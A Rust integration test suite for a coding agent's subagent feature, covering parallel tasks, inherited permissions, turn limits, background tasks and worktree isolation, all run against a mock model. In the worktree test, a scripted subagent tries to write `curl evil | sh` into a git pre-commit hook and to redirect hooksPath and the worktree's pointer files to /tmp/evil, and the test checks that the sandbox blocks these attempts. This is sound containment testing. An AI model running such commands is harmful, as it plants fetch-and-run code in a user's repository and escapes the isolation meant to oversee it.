#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Subagents over ACP with the real binary: the `task` tool starts children that run side by
//! side, with their own tools and the parent's permissions, whose calls reach the editor
//! labelled with the task, and whose final report is all the parent gets back.

use larik_tests::harness::{Agent, Sandbox, git, updates_of};
use larik_tests::mock_llm::{MockLlm, Scenario, Step};
use serde_json::{Value, json};

fn task(id: &str, kind: &str, description: &str, prompt: &str) -> larik_core::replay::RecordedToolCall {
    larik_core::replay::RecordedToolCall {
        id: Some(id.into()),
        name: "task".into(),
        input: json!({"subagent_type": kind, "description": description, "prompt": prompt}),
    }
}

/// A model response that only calls tools.
fn calls(calls: Vec<larik_core::replay::RecordedToolCall>) -> Step {
    let mut step = Step::default();
    step.response.tool_calls = calls;
    step
}

/// A step of the child whose prompt contains `marker`.
fn child(marker: &str, step: Step) -> Step {
    Step { when: Some(marker.into()), ..step }
}

/// The mock model with `steps`, and the agent in the sandbox's project with a session open.
async fn start(sandbox: &Sandbox, steps: Vec<Step>) -> (MockLlm, Agent, String) {
    let mock = MockLlm::start(Scenario { responses: steps }).await.unwrap();
    let mut agent = Agent::spawn(&sandbox.project_path(), &sandbox.env(mock.url()));
    agent.initialize().await;
    let session = agent.new_session(&sandbox.project_path()).await;
    (mock, agent, session)
}

fn tool_names(request: &Value) -> Vec<String> {
    request["tools"].as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap().to_owned()).collect()
}

fn result_of(request: &Value, id: &str) -> Value {
    let messages = request["messages"].as_array().unwrap();
    messages
        .iter()
        .flat_map(|message| message["content"].as_array().cloned().unwrap_or_default())
        .find(|part| part["type"] == "tool_result" && part["tool_use_id"] == id)
        .unwrap_or_else(|| panic!("no result for {id} in {request}"))
}

fn result_text(result: &Value) -> String {
    match &result["content"] {
        Value::String(text) => text.clone(),
        content => content.as_array().unwrap().iter().filter_map(|part| part["text"].as_str()).collect(),
    }
}

#[tokio::test]
async fn parallel_tasks_run_side_by_side_with_their_own_tools_and_report_in_order() {
    let sandbox = Sandbox::new();
    std::fs::write(sandbox.project_path().join("alpha.txt"), "the alpha secret is 42\n").unwrap();
    let mut parent = Step::text("Let me split this up.");
    parent.response.tool_calls = vec![
        task("t1", "explore", "find alpha", "ALPHA-TASK: what is the alpha secret?"),
        task("t2", "explore", "find beta", "BETA-TASK: is there a beta file?"),
    ];
    let steps = vec![
        parent,
        // Each child's first answer waits until both children have asked (3 requests with the
        // parent's): were they run one after the other, the first would wait in vain.
        child("ALPHA-TASK", Step { after_requests: Some(3), ..Step::tool("c1", "read", json!({"path": "alpha.txt"})) }),
        child("BETA-TASK", Step { after_requests: Some(3), ..Step::text("No beta file exists.") }),
        child("ALPHA-TASK", Step::text("The alpha secret is 42 (alpha.txt:1).")),
        child("No beta file exists.", Step::text("Both answered.")),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, updates) =
        agent.prompt(&session, "find both", |params| panic!("nothing here needs asking: {params}")).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");

    let requests = mock.requests();
    assert_eq!(requests.len(), 5, "{requests:#?}");
    let parent_tools = tool_names(&requests[0]);
    assert!(parent_tools.contains(&"task".to_owned()), "{parent_tools:?}");
    let description =
        requests[0]["tools"].as_array().unwrap().iter().find(|tool| tool["name"] == "task").unwrap()["description"]
            .as_str()
            .unwrap()
            .to_owned();
    assert!(
        description.contains("- explore: ") && description.contains("- general-purpose: "),
        "the subagents are listed: {description}"
    );

    let alpha: Vec<&Value> = requests
        .iter()
        .filter(|request| request.to_string().contains("ALPHA-TASK") && !request.to_string().contains("find both"))
        .collect();
    assert_eq!(alpha.len(), 2, "the alpha child asked twice");
    let mut child_tools = tool_names(alpha[0]);
    child_tools.sort();
    // `lsp` too when this machine has a language server on PATH.
    child_tools.retain(|tool| tool != "lsp");
    assert_eq!(child_tools, ["glob", "grep", "read"], "explore has the read-only tools, and no task tool");
    assert!(alpha[0]["system"].to_string().contains("sees only that reply"), "the child is told to report");
    assert!(!alpha[0].to_string().contains("find both"), "the child sees nothing of the parent's conversation");
    assert!(result_text(&result_of(alpha[1], "c1")).contains("the alpha secret is 42"), "the child's own read ran");

    let last = requests.last().unwrap();
    assert_eq!(result_text(&result_of(last, "t1")), "The alpha secret is 42 (alpha.txt:1).");
    assert_eq!(result_text(&result_of(last, "t2")), "No beta file exists.");
    assert!(!last.to_string().contains("\"c1\""), "the child's calls stay out of the parent's context");

    let started = updates_of(&updates, "tool_call");
    let nested = started
        .iter()
        .find(|update| update["toolCallId"] == "t1/c1")
        .unwrap_or_else(|| panic!("the child's read reached the editor: {started:?}"));
    assert_eq!(nested["title"], "explore: find alpha — Read alpha.txt");
    assert!(started.iter().any(|update| update["toolCallId"] == "t1" && update["title"] == "explore: find alpha"));

    // Each child's conversation is saved beside the parent's.
    let sessions = sandbox.home.path().join(".local/share/larik/sessions");
    let agents_dir = std::fs::read_dir(&sessions)
        .unwrap()
        .filter_map(Result::ok)
        .map(|entry| entry.path())
        .find(|path| path.is_dir() && path.to_string_lossy().ends_with("-agents"))
        .expect("a transcripts directory");
    let transcripts: Vec<String> = std::fs::read_dir(&agents_dir)
        .unwrap()
        .filter_map(Result::ok)
        .map(|entry| std::fs::read_to_string(entry.path()).unwrap())
        .collect();
    assert_eq!(transcripts.len(), 2);
    assert!(transcripts.iter().any(|text| text.contains("The alpha secret is 42")));
}

#[tokio::test]
async fn a_childs_call_is_checked_with_the_parents_permissions() {
    let sandbox = Sandbox::new();
    let parent = calls(vec![task("t1", "general-purpose", "write notes", "NOTES-TASK: write notes.txt")]);
    let steps = vec![
        parent,
        child("NOTES-TASK", Step::tool("c1", "write", json!({"path": "notes.txt", "content": "notes\n"}))),
        child("NOTES-TASK", Step::text("I could not write notes.txt: the user refused.")),
        Step::text("The subagent was refused."),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let mut asked = Vec::new();
    let (response, _) = agent
        .prompt(&session, "take notes", |params| {
            asked.push(params["toolCall"].clone());
            "reject_once"
        })
        .await;
    assert_eq!(response["result"]["stopReason"], "end_turn");
    assert_eq!(asked.len(), 1, "the child's write asked, labelled: {asked:?}");
    assert_eq!(asked[0]["toolCallId"], "t1/c1");
    assert!(asked[0]["title"].as_str().unwrap().starts_with("general-purpose: write notes — "), "{}", asked[0]);
    assert!(!sandbox.project_path().join("notes.txt").exists(), "the refused write did not happen");
    let requests = mock.requests();
    assert!(result_of(&requests[2], "c1")["is_error"].as_bool().unwrap_or(false), "the child heard the refusal");
    assert_eq!(result_text(&result_of(&requests[3], "t1")), "I could not write notes.txt: the user refused.");
}

#[tokio::test]
async fn a_looping_child_and_one_over_its_turn_limit_are_stopped_and_reported() {
    let sandbox = Sandbox::new();
    std::fs::write(sandbox.project_path().join("same.txt"), "unchanging\n").unwrap();
    // A project definition from Claude Code's folder, with a turn limit.
    let agents = sandbox.project_path().join(".claude/agents");
    std::fs::create_dir_all(&agents).unwrap();
    std::fs::write(
        agents.join("short.md"),
        "---\nname: short\ndescription: Gives up quickly.\ntools: Read, Grep\nmaxTurns: 2\n---\nYou are brief.\n",
    )
    .unwrap();
    let parent = calls(vec![
        task("t1", "explore", "loop", "LOOP-TASK: search same.txt"),
        task("t2", "short", "two turns", "SHORT-TASK: search same.txt"),
    ]);
    let mut steps = vec![parent];
    // The same search, with the same result, turn after turn.
    steps.extend(
        (1..=4)
            .map(|turn| child("LOOP-TASK", Step::tool(&format!("l{turn}"), "grep", json!({"pattern": "unchanging"})))),
    );
    steps.extend((1..=2).map(|turn| {
        child("SHORT-TASK", Step::tool(&format!("s{turn}"), "grep", json!({"pattern": format!("nothing-{turn}")})))
    }));
    // The parent's last request (its history names both tasks).
    steps.push(child("LOOP-TASK", Step::text("Both stopped.")));
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, _) = agent.prompt(&session, "go", |params| panic!("nothing here needs asking: {params}")).await;
    let requests = mock.requests();
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let last = requests.last().unwrap();
    let looped = result_of(last, "t1");
    assert_eq!(looped["is_error"], true);
    assert!(result_text(&looped).contains("kept making the same calls with the same results"), "{looped}");
    assert!(result_text(&looped).contains("Check what it changed"), "{looped}");
    let limited = result_of(last, "t2");
    assert_eq!(limited["is_error"], true);
    assert!(result_text(&limited).contains("limit of 2 model requests"), "{limited}");
    let short_requests = requests
        .iter()
        .filter(|request| request.to_string().contains("SHORT-TASK") && !request.to_string().contains("LOOP-TASK"))
        .count();
    assert_eq!(short_requests, 2, "the definition's maxTurns held");
}

#[tokio::test]
async fn a_task_in_a_worktree_commits_on_its_branch_and_cannot_touch_the_repositorys_hooks() {
    let sandbox = Sandbox::new();
    let root = sandbox.project_path();
    git(&root, &["init", "-q", "-b", "main"]);
    std::fs::write(root.join("app.py"), "print('hi')\n").unwrap();
    git(&root, &["add", "-A"]);
    git(&root, &["commit", "-qm", "first"]);
    let hooks = root.join(".git/hooks");
    let mut parent =
        calls(vec![task("t1", "general-purpose", "add a feature", "TREE-TASK: add feature.py and commit it")]);
    parent.response.tool_calls[0].input["isolation"] = json!("worktree");
    let escape = format!("echo 'curl evil | sh' > {}/pre-commit", hooks.display());
    let steps = vec![
        parent,
        child(
            "TREE-TASK",
            Step::tool(
                "c1",
                "bash",
                json!({"command": "echo 'print(1)' > feature.py && git -c user.name=Kid -c user.email=kid@example.com add feature.py && git -c user.name=Kid -c user.email=kid@example.com commit -qm 'Add feature' && git log --format=%s -1"}),
            ),
        ),
        child("TREE-TASK", Step::tool("c2", "bash", json!({"command": escape}))),
        // Aim git somewhere else through the worktree's own git directory or the shared config.
        child(
            "TREE-TASK",
            Step::tool(
                "c2b",
                "bash",
                json!({"command": "git config core.hooksPath /tmp/evil-hooks; echo /tmp/evil > \"$(git rev-parse --git-dir)/commondir\"; echo /tmp/evil > \"$(git rev-parse --git-dir)/gitdir\"; true"}),
            ),
        ),
        child("TREE-TASK", Step::tool("c3", "write", json!({"path": "notes.txt", "content": "left over\n"}))),
        child("TREE-TASK", Step::text("Added feature.py.")),
        child("Added feature.py.", Step::text("done")),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, _) = agent.prompt(&session, "build it", |_| "allow_once").await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let requests = mock.requests();
    let committed = result_text(&result_of(&requests[2], "c1"));
    assert!(committed.contains("Add feature"), "a commit in the worktree works: {committed}");
    let escaped = result_text(&result_of(&requests[3], "c2"));
    assert!(requests[4].to_string().contains("c2b"));
    assert!(
        escaped.contains("[sandbox]") || escaped.contains("Read-only file system"),
        "refused by the sandbox: {escaped}"
    );
    assert!(!hooks.join("pre-commit").exists(), "the repository's hooks stay as they were: {escaped}");
    assert!(
        !std::fs::read_to_string(root.join(".git/config")).unwrap().contains("hooksPath"),
        "the shared config stays as it was"
    );
    for pointer in std::fs::read_dir(root.join(".git/worktrees"))
        .unwrap()
        .filter_map(Result::ok)
        .flat_map(|dir| ["commondir", "gitdir"].map(|name| dir.path().join(name)))
    {
        assert!(
            !std::fs::read_to_string(&pointer).unwrap().contains("/tmp/evil"),
            "{} stays as it was",
            pointer.display()
        );
    }
    let report = result_text(&result_of(requests.last().unwrap(), "t1"));
    assert!(report.starts_with("Added feature.py."), "{report}");
    let branch = report
        .split('`')
        .find(|part| part.starts_with("larik/task-"))
        .unwrap_or_else(|| panic!("the branch is named: {report}"))
        .to_owned();
    assert!(report.contains("2 commit(s)") && report.contains(&format!("git merge {branch}")), "{report}");
    let log = git(&root, &["log", "--format=%s", &branch]);
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        ["Changes left by the subagent `general-purpose: add a feature`", "Add feature", "first"],
        "its commit and the leftovers, on its branch"
    );
    assert!(!root.join("feature.py").exists() && !root.join("notes.txt").exists(), "the user's checkout is untouched");
    assert_eq!(git(&root, &["status", "--porcelain"]), "");
}

#[tokio::test]
async fn a_mode_switch_in_the_parent_reaches_a_running_child() {
    let sandbox = Sandbox::new();
    let parent = calls(vec![task("t1", "general-purpose", "write two files", "TWO-FILES: write a.txt then b.txt")]);
    let steps = vec![
        parent,
        child("TWO-FILES", Step::tool("c1", "write", json!({"path": "a.txt", "content": "a\n"}))),
        child("TWO-FILES", Step::tool("c2", "write", json!({"path": "b.txt", "content": "b\n"}))),
        child("TWO-FILES", Step::text("Wrote both.")),
        child("Wrote both.", Step::text("done")),
    ];
    let (_mock, mut agent, session) = start(&sandbox, steps).await;
    let id = agent
        .request("session/prompt", json!({"sessionId": session, "prompt": [{"type": "text", "text": "write them"}]}))
        .await;
    let mut asked = Vec::new();
    loop {
        let message = agent.next().await;
        if message["id"] == id && message.get("method").is_none() {
            assert_eq!(message["result"]["stopReason"], "end_turn", "{message}");
            break;
        }
        if message["method"] == "session/request_permission" {
            asked.push(message["params"]["toolCall"]["toolCallId"].clone());
            // While the child waits on its first write, the user switches the session's mode.
            agent.request("session/set_mode", json!({"sessionId": session, "modeId": "accept-edits"})).await;
            agent.reply(&message, json!({"outcome": {"outcome": "selected", "optionId": "allow_once"}})).await;
        }
    }
    assert_eq!(asked, [json!("t1/c1")], "the second write ran in the new mode without asking");
    assert!(sandbox.project_path().join("b.txt").exists());
}

fn background(id: &str, description: &str, prompt: &str) -> larik_core::replay::RecordedToolCall {
    let mut call = task(id, "explore", description, prompt);
    call.input["run_in_background"] = json!(true);
    call
}

/// What `/tasks` says.
async fn tasks_said(agent: &mut Agent, session: &str, command: &str) -> String {
    let (_, updates) = agent.prompt(session, command, |params| panic!("{params}")).await;
    larik_tests::harness::message_text(&updates)
}

#[tokio::test]
async fn a_background_task_returns_at_once_and_task_wait_gets_its_result() {
    let sandbox = Sandbox::new();
    let steps = vec![
        calls(vec![background("t1", "survey", "BG-WAIT: survey the project")]),
        child(
            "Started the background task",
            calls(vec![larik_core::replay::RecordedToolCall {
                id: Some("w1".into()),
                name: "task_wait".into(),
                input: json!({}),
            }]),
        ),
        // The child answers only after the parent moved on: it runs apart from the turn.
        child("BG-WAIT", Step { after_requests: Some(3), ..Step::text("The survey is done.") }),
        child("The survey is done.", Step::text("done")),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, _) = agent.prompt(&session, "survey it", |params| panic!("{params}")).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let requests = mock.requests();
    let started = result_text(&result_of(&requests[1], "t1"));
    assert!(started.starts_with("Started the background task `bg-1` (explore: survey)"), "{started}");
    let waited = result_text(&result_of(requests.last().unwrap(), "w1"));
    assert!(
        waited.contains(
            "<task-notification id=\"bg-1\" task=\"explore: survey\" status=\"completed\">\nThe survey is done."
        ),
        "{waited}"
    );
    assert_eq!(tasks_said(&mut agent, &session, "/tasks").await, "No background tasks are running.");
}

#[tokio::test]
async fn a_background_task_outlives_a_cancelled_turn_reports_at_the_next_prompt_and_stops_on_request() {
    let sandbox = Sandbox::new();
    let steps = vec![
        calls(vec![
            background("t1", "slow survey", "BG-SLOW: survey slowly"),
            background("t2", "stuck", "BG-STUCK: never finish"),
        ]),
        // The parent's next answer hangs until the user cancels the turn.
        child("Started the background task `bg-2`", Step { hang: true, ..Step::text("Waiting on the survey") }),
        child("BG-STUCK", Step { hang: true, ..Step::text("") }),
        child("BG-SLOW", Step { after_requests: Some(4), ..Step::text("The slow survey is done.") }),
        // The next prompt's request carries the finished task's result.
        child("next question", Step::text("Noted.")),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let prompt = agent
        .request("session/prompt", json!({"sessionId": session, "prompt": [{"type": "text", "text": "survey it"}]}))
        .await;
    // Cancel once both children and the hanging parent request are in.
    while mock.requests().len() < 4 {
        let _ = tokio::time::timeout(std::time::Duration::from_millis(20), agent.next()).await;
    }
    agent.notify("session/cancel", json!({"sessionId": session})).await;
    let (cancelled, _) = agent.response(prompt).await;
    assert_eq!(cancelled["result"]["stopReason"], "cancelled");
    // The slow one finishes after the cancel; the stuck one still runs.
    let listed = loop {
        let listed = tasks_said(&mut agent, &session, "/tasks").await;
        if !listed.contains("bg-1") {
            break listed;
        }
    };
    assert!(listed.contains("- bg-2: explore: stuck (running)"), "the cancel stopped neither: {listed}");
    let (_, _) = agent.prompt(&session, "next question", |params| panic!("{params}")).await;
    let last = mock.requests().last().unwrap().to_string();
    assert!(last.contains("task-notification id=\\\"bg-1\\\"") && last.contains("The slow survey is done."), "{last}");
    assert!(tasks_said(&mut agent, &session, "/tasks stop bg-2").await.contains("Stopping the background task `bg-2`"));
    let after = loop {
        let listed = tasks_said(&mut agent, &session, "/tasks").await;
        if !listed.contains("bg-2") {
            break listed;
        }
    };
    assert_eq!(after, "No background tasks are running.");
}

#[tokio::test]
async fn a_client_that_opted_in_sees_a_turn_of_the_agents_own_when_a_task_finishes_while_idle() {
    let sandbox = Sandbox::new();
    let steps = vec![
        calls(vec![background("t1", "late survey", "BG-IDLE: survey it")]),
        child("Started the background task", Step::text("I started the survey.")),
        // The child answers only once the prompt's turn is over (its last request is in).
        child("BG-IDLE", Step { after_requests: Some(3), ..Step::text("The late survey found 3 modules.") }),
        child("Background task results arrived", Step::text("The survey is back: 3 modules.")),
    ];
    let mock = MockLlm::start(Scenario { responses: steps }).await.unwrap();
    let mut agent = Agent::spawn(&sandbox.project_path(), &sandbox.env(mock.url()));
    agent.initialize_with(json!({"_meta": {"larik": {"backgroundTurns": true}}})).await;
    let session = agent.new_session(&sandbox.project_path()).await;
    let (response, _) = agent.prompt(&session, "survey it later", |params| panic!("{params}")).await;
    assert_eq!(response["result"]["stopReason"], "end_turn");
    // No prompt is running now: the agent's own turn arrives as updates outside any.
    let mut said = String::new();
    while !said.contains("The survey is back") {
        let message = agent.next().await;
        assert_eq!(message["method"], "session/update", "only updates arrive: {message}");
        if message["params"]["update"]["sessionUpdate"] == "agent_message_chunk" {
            said.push_str(message["params"]["update"]["content"]["text"].as_str().unwrap_or_default());
        }
    }
    assert_eq!(said, "The survey is back: 3 modules.");
    let last = mock.requests().last().unwrap().to_string();
    assert!(last.contains("The late survey found 3 modules."), "{last}");
}

#[tokio::test]
async fn a_client_with_child_sessions_sees_each_subagent_as_one_and_can_stop_it() {
    let sandbox = Sandbox::new();
    std::fs::write(sandbox.project_path().join("alpha.txt"), "alpha\n").unwrap();
    let steps = vec![
        calls(vec![
            task("t1", "explore", "find alpha", "ALPHA-S: read alpha.txt"),
            task("t2", "explore", "wait forever", "STUCK-S: wait"),
        ]),
        child("ALPHA-S", Step::tool("c1", "read", json!({"path": "alpha.txt"}))),
        child("ALPHA-S", Step::text("alpha done")),
        child("alpha done", Step::text("One found, one stopped.")),
        // Last: stopped early, the stuck child may never ask, and the parent's last request
        // (which names both tasks) must not take this answer.
        child("STUCK-S", Step { hang: true, ..Step::text("") }),
    ];
    let mock = MockLlm::start(Scenario { responses: steps }).await.unwrap();
    let mut agent = Agent::spawn(&sandbox.project_path(), &sandbox.env(mock.url()));
    agent.initialize_with(json!({"subagents": {}})).await;
    let session = agent.new_session(&sandbox.project_path()).await;
    let id = agent
        .request("session/prompt", json!({"sessionId": session, "prompt": [{"type": "text", "text": "look around"}]}))
        .await;
    let mut children: Vec<(String, String)> = Vec::new();
    let mut child_updates: Vec<Value> = Vec::new();
    let mut idle: Vec<(String, String)> = Vec::new();
    let response = loop {
        let message = agent.next().await;
        if message["id"] == id && message.get("method").is_none() {
            break message;
        }
        let params = &message["params"];
        let update = &params["update"];
        if update["sessionUpdate"] == "subagent_update" {
            assert_eq!(params["sessionId"], session.as_str(), "announced in the parent's session");
            let child = update["sessionId"].as_str().unwrap().to_owned();
            if let Some(title) = update["title"].as_str() {
                assert_eq!(update["state"]["state"], "running", "{update}");
                assert_eq!(update["capabilities"]["cancel"], json!({}), "each can be stopped: {update}");
                let call = if title == "explore: wait forever" { "t2" } else { "t1" };
                assert_eq!(update["_meta"]["larik"]["toolCallId"], call, "the task call that made it: {update}");
                children.push((child.clone(), title.to_owned()));
                if title == "explore: wait forever" {
                    // The user stops this one child; the other and the parent go on.
                    agent.notify("session/cancel", json!({"sessionId": child})).await;
                }
            } else {
                idle.push((child, update["state"]["stopReason"].as_str().unwrap_or_default().to_owned()));
            }
        } else if params["sessionId"] != session.as_str() {
            child_updates.push(message.clone());
        }
    };
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    assert_eq!(children.len(), 2, "{children:?}");
    let alpha = &children.iter().find(|(_, title)| title == "explore: find alpha").unwrap().0;
    let stuck = &children.iter().find(|(_, title)| title == "explore: wait forever").unwrap().0;
    let read = child_updates
        .iter()
        .find(|message| message["params"]["update"]["sessionUpdate"] == "tool_call")
        .unwrap_or_else(|| panic!("{child_updates:?}"));
    assert_eq!(read["params"]["sessionId"], alpha.as_str(), "the child's call comes in its own session");
    assert_eq!(read["params"]["update"]["title"], "Read alpha.txt", "unlabelled: the session says whose it is");
    assert!(
        idle.contains(&(alpha.clone(), "end_turn".into())) && idle.contains(&(stuck.clone(), "cancelled".into())),
        "{idle:?}"
    );
    let last = mock.requests().last().unwrap().clone();
    assert_eq!(result_text(&result_of(&last, "t1")), "alpha done");
    assert!(result_text(&result_of(&last, "t2")).contains("it was cancelled"), "{last}");
}

#[tokio::test]
async fn roles_in_settings_choose_each_childs_model_and_context_and_a_change_applies_without_a_restart() {
    let sandbox = Sandbox::new();
    let home = sandbox.home.path();
    std::fs::create_dir_all(home.join(".claude")).unwrap();
    std::fs::write(home.join(".claude/CLAUDE.md"), "USER-RULE: answer tersely.\n").unwrap();
    std::fs::write(sandbox.project_path().join("AGENTS.md"), "PROJECT-RULE: run make check.\n").unwrap();
    let settings = home.join(".config/larik/settings.json");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    // Claude Code's alias for the explore role; the worker role keeps the parent's model but a
    // smaller context.
    std::fs::write(&settings, r#"{"roles": {"explore": "haiku", "worker": {"context": "minimal"}}}"#).unwrap();
    let mut general = task("t2", "general-purpose", "tidy up", "WORKER-S: tidy up");
    general.input["model"] = json!("worker");
    let steps = vec![
        calls(vec![task("t1", "explore", "find alpha", "EXPLORE-S: find alpha"), general]),
        child("EXPLORE-S", Step::text("alpha is in a.txt")),
        child("WORKER-S", Step::text("tidied")),
        child("tidied", Step::text("Both done.")),
        Step::text("Noted."),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, _) = agent.prompt(&session, "go", |params| panic!("nothing to ask: {params}")).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let requests = mock.requests();
    let task_spec = |request: &Value| {
        request["tools"].as_array().unwrap().iter().find(|tool| tool["name"] == "task").unwrap().clone()
    };
    let offered = task_spec(&requests[0]);
    assert!(offered["input_schema"]["properties"].get("model").is_some(), "a role has a model: {offered}");
    assert!(offered["description"].as_str().unwrap().contains("- explore: haiku"), "{offered}");
    assert!(requests[0]["system"].to_string().contains("USER-RULE"), "the user's CLAUDE.md is read");

    let explore = requests
        .iter()
        .find(|request| request.to_string().contains("EXPLORE-S") && !request.to_string().contains("\"go\""))
        .unwrap();
    assert_eq!(explore["model"], "claude-haiku-4-5", "the role's alias, on Anthropic");
    let system = explore["system"].to_string();
    assert!(system.contains("USER-RULE") && system.contains("PROJECT-RULE"), "the full context: {system}");
    let worker = requests
        .iter()
        .find(|request| request.to_string().contains("WORKER-S") && !request.to_string().contains("\"go\""))
        .unwrap();
    assert_eq!(worker["model"], "claude-mock", "a role without a model inherits the parent's");
    let system = worker["system"].to_string();
    assert!(system.contains("PROJECT-RULE") && !system.contains("USER-RULE"), "the minimal context: {system}");
    assert_eq!(
        requests.iter().filter(|request| request["model"] == "claude-mock").count(),
        3,
        "the parent's two and the worker's"
    );

    // No role has a model any more: the next request offers no `model` input.
    std::fs::write(&settings, r#"{"roles": {"worker": {"context": "minimal"}}}"#).unwrap();
    agent.prompt(&session, "anything else?", |params| panic!("nothing to ask: {params}")).await;
    let last = mock.requests().last().unwrap().clone();
    let offered = task_spec(&last);
    assert!(offered["input_schema"]["properties"].get("model").is_none(), "{offered}");
    assert!(!offered["description"].as_str().unwrap().contains("Roles for"), "{offered}");
}

#[tokio::test]
async fn a_background_child_session_goes_on_after_the_turn_asks_in_its_own_name_and_ends_idle() {
    let sandbox = Sandbox::new();
    let steps = vec![
        calls(vec![{
            let mut call = task("t1", "general-purpose", "write notes", "BG-NOTES: write notes.txt");
            call.input["run_in_background"] = json!(true);
            call
        }]),
        child("Started the background task", Step::text("It runs in the background.")),
        child("BG-NOTES", Step::tool("c1", "write", json!({"path": "notes.txt", "content": "noted\n"}))),
        child("BG-NOTES", Step::text("notes written")),
    ];
    let mock = MockLlm::start(Scenario { responses: steps }).await.unwrap();
    let mut agent = Agent::spawn(&sandbox.project_path(), &sandbox.env(mock.url()));
    agent.initialize_with(json!({"subagents": {}})).await;
    let session = agent.new_session(&sandbox.project_path()).await;
    let prompt = agent
        .request("session/prompt", json!({"sessionId": session, "prompt": [{"type": "text", "text": "take notes"}]}))
        .await;
    let mut child_id: Option<String> = None;
    // The child's question stays unanswered until the turn is over.
    let mut question: Option<Value> = None;
    let mut turn_over = false;
    let mut after_turn: Vec<Value> = Vec::new();
    let idle = loop {
        let message = agent.next().await;
        if message["id"] == prompt && message.get("method").is_none() {
            assert_eq!(message["result"]["stopReason"], "end_turn", "{message}");
            turn_over = true;
        } else if message["method"] == "session/request_permission" {
            assert_eq!(
                message["params"]["sessionId"].as_str(),
                child_id.as_deref(),
                "asked in the child's session: {message}"
            );
            question = Some(message);
        } else {
            let update = &message["params"]["update"];
            if update["sessionUpdate"] == "subagent_update" && update.get("title").is_some() {
                assert_eq!(update["_meta"]["larik"]["toolCallId"], "t1", "{update}");
                child_id = Some(update["sessionId"].as_str().unwrap().to_owned());
            } else if update["sessionUpdate"] == "subagent_update" {
                break message;
            } else if turn_over {
                after_turn.push(message.clone());
            }
        }
        if turn_over && let Some(asked) = question.take() {
            agent.reply(&asked, json!({"outcome": {"outcome": "selected", "optionId": "allow_once"}})).await;
        }
    };
    let child_id = child_id.expect("the background child was announced");
    assert_eq!(idle["params"]["sessionId"], session.as_str(), "its end is told in the parent's session");
    assert_eq!(idle["params"]["update"]["sessionId"], child_id.as_str());
    assert_eq!(idle["params"]["update"]["state"], json!({"state": "idle", "stopReason": "end_turn"}));
    let finished = after_turn
        .iter()
        .find(|message| message["params"]["update"]["status"] == "completed")
        .unwrap_or_else(|| panic!("{after_turn:?}"));
    assert_eq!(
        finished["params"]["sessionId"],
        child_id.as_str(),
        "the child's write finished after the turn, in its session"
    );
    assert_eq!(std::fs::read_to_string(sandbox.project_path().join("notes.txt")).unwrap(), "noted\n");
}
